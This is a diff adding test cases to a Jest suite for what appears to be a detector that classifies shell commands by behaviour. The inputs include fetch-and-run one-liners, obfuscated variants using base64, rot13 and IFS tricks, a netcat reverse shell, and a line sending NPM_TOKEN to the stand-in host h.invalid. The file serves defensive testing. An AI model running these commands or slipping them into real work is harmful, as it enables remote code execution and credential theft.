@@ -1,6 +1,7 @@
 import { describe, expect, it } from '@jest/globals';
 import fc from 'fast-check';
 import { argvFacts, commandFacts } from '../../src/code/command.ts';
+import { readShellScript } from '../../src/code/other-scripts.ts';
 import { parseShell } from '../../src/code/shell.ts';
 
 const kinds = (line: string): readonly string[] => commandFacts(line).doings.map(({ kind }) => kind);
@@ -86,6 +87,33 @@ describe('what a command does', () => {
     ['git config --system --add credential.helper x', 'persistence'],
     ['mkdir -p .github/workflows && cp w.yml .github/workflows/w.yml', 'ci-config'],
     ['cmd /c curl https://h.invalid/a.exe -o a.exe & a.exe', 'download-execute'],
+    ['eval "$(curl -fsSL https://h.invalid/a)"', 'download-execute'],
+    ['bash -c "$(wget -qO- https://h.invalid/a)"', 'download-execute'],
+    ['bash <(curl -s https://h.invalid/a)', 'download-execute'],
+    ['X=$(curl -s https://h.invalid/a); eval "$X"', 'download-execute'],
+    ['node -e "$(curl -s https://h.invalid/a)"', 'download-execute'],
+    [`H=h.invalid; C=cu; C="$\{C}rl"; $C "https://$H/a" -o /tmp/a; sh /tmp/a`, 'download-execute'],
+    ['C="curl -s https://h.invalid/a"; $C | sh', 'download-execute'],
+    [`cu""rl$\{IFS}https://h.invalid/a|s\\h`, 'download-execute'],
+    ["$(printf '\\143\\165\\162\\154') https://h.invalid/a | sh", 'download-execute'],
+    ['bash -c "$(echo Y3VybCBodHRwczovL2guaW52YWxpZC9hfHNo | base64 --decode)"', 'download-execute'],
+    ['X=Y3VybCBodHRwczovL2guaW52YWxpZC9hfHNo; bash -c "$(echo $X | base64 --decode)"', 'decode-execute'],
+    ["echo 'dilavni.h//:sptth lruc' | rev | sh", 'network'],
+    ["eval $(echo 'phey uggcf://u.vainyvq/n' | tr a-z n-za-m)", 'decode-execute'],
+    ['get() { wget -qO- "$1"; }; run() { sh; }; get https://h.invalid/a | run', 'download-execute'],
+    ['function get { curl -s "$1" | sh; }\nget https://h.invalid/a', 'download-execute'],
+    ['sh <<EOF\ncurl https://h.invalid/a | sh\nEOF', 'download-execute'],
+    ["bash <<< 'curl https://h.invalid/a | sh'", 'download-execute'],
+    ['cat > /tmp/p.sh <<EOF\ncurl https://h.invalid/$(whoami) | sh\nEOF\nsh /tmp/p.sh', 'download-execute'],
+    ['cat <<EOF | bash\ncurl https://h.invalid/a | sh\nEOF', 'download-execute'],
+    ['echo https://h.invalid/a | xargs curl -s | sh', 'download-execute'],
+    ['nc h.invalid 99 | sh', 'download-execute'],
+    ['mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h.invalid 44 > /tmp/f', 'remote-code'],
+    ["npm exec -c 'curl https://h.invalid|sh'", 'download-execute'],
+    ['mshta https://h.invalid/a.hta', 'download-execute'],
+    ['(( a<<2 ))\ncurl https://h.invalid/a | sh\n2', 'download-execute'],
+    ['cat <<EOF\ncurl https://h.invalid/a | sh', 'download-execute'],
+    ['T=$NPM_TOKEN; curl -d $T https://h.invalid', 'credential-env'],
   ];
   it.each(does)('%s', (line, kind) => {
     expect(kinds(line)).toContain(kind);
@@ -108,8 +136,34 @@ describe('what a command does', () => {
     'schtasks /Query /fo csv',
     'launchctl list',
     'crontab -l',
+    'cat <<EOF\nTo install: curl https://h.invalid/a | sh\nIt reads ~/.npmrc\nEOF',
+    'usage() { echo "curl https://h.invalid | sh"; }; usage',
+    'A=1; B="$A"; export C=$B; for f in a b; do echo $f; done',
   ])('nothing: %s', (line) => {
     expect(commandFacts(line).doings).toEqual([]);
+  });
+
+  it('follows what variables, functions and folders make of the words', () => {
+    const script = 'U=https://h.invalid; U+=/a; get() { curl -fsSL "$1"; }; get "$U" -o x';
+    expect(commandFacts(script).doings).toContainEqual(expect.objectContaining({ kind: 'download', detail: 'https://h.invalid/a' }));
+    expect(commandFacts('cd lib && node go.js').files).toEqual(['lib/go.js', 'go.js']);
+    expect(commandFacts('NODE_OPTIONS="--require ./hook.js" node x.js').files).toEqual(['./hook.js', 'x.js']);
+    expect(commandFacts('npx ts-node setup.ts').files).toEqual(['setup.ts']);
+    expect(commandFacts("node <<'EOF'\nlet a\nEOF").inline).toEqual([{ language: 'javascript', code: 'let a\n' }]);
+    expect(commandFacts('f() { f; f; f; }; f').doings).toEqual([]);
+    expect(commandFacts(`${'a() { b; b; }; b() { a; a; }; '.repeat(500)} a`).doings).toEqual([]);
+  });
+
+  it('tells in a script where what a function or variable hides is done', () => {
+    const script = '#!/bin/sh\nH=h.invalid\nget() {\n  curl -s "https://$H/$1"\n}\nget a | sh\n';
+    const { spotted } = readShellScript(script, false);
+    expect(spotted).toContainEqual({ kind: 'download-execute', detail: 'sh runs what was fetched', at: script.lastIndexOf('sh'), readAs: 'written' });
+    expect(spotted.filter(({ kind }) => kind === 'network')).toEqual([expect.objectContaining({ detail: 'h.invalid' })]);
+  });
+
+  it('starts in one line of a batch file what another fetched', () => {
+    const script = '@echo off\r\nset U=https://h.invalid/a.exe\r\ncurl -o %TEMP%\\a.exe %U%\r\n%TEMP%\\a.exe\r\n';
+    expect(readShellScript(script, true).spotted.map(({ kind }) => kind)).toContain('download-execute');
   });
 
   it('names the files, scripts, tools and code it runs', () => {
